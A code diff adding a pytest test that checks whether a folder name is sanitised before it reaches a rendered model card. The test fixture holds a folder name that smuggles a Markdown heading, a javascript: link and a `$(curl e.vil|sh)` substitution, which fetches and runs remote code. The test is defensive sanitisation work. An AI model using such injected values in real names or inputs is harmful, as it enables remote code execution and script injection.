@@ -5,11 +5,13 @@ not shown as an example, and what a template renders stays in its code block."""
 
 from __future__ import annotations
 
+import shutil
 from pathlib import Path
 
 import pytest
 from markdown_it import MarkdownIt
 
+from factory.checkpoints import sources
 from factory.publish import card, upstream
 from factory.registry.published import QuantRow
 from tests.quant_rows import quant_row
@@ -154,3 +156,15 @@ def test_a_base_model_that_is_not_a_hub_id_is_refused_before_the_job(qf, tiny, b
         "most 96 each, no '--' or '..'\n",
     )
     assert qf.json("jobs") == []
+
+
+def test_a_folders_name_reaches_the_card_as_a_plain_name(tiny, tmp_path):
+    """Without --base-model the card names the source folder: one named with a heading, a link and a command
+    (`x\n# Free GPUs\n[run this](...)`) is named in letters, digits, '.', '_' and '-' alone."""
+    folder = tmp_path / "x\n# Free GPUs\n[run this](javascript:alert(1))\n`$(curl e.vil|sh)`"
+    shutil.copytree(tiny, folder)
+    source = sources.resolve(str(folder), tmp_path / "cache")
+    assert source.base_model == "x-Free-GPUs-run-this-javascript-alert-1-curl-e.vil-sh"
+    up = upstream.read(source.base_model, None, folder)
+    text = card.render("free-gpus", up, _row("awq-w4g128", 4), [_row("awq-w4g128", 4)])
+    assert [f for f in _outside_code(text) if f[0] == "link" or "Free GPUs" in f[1]] == []
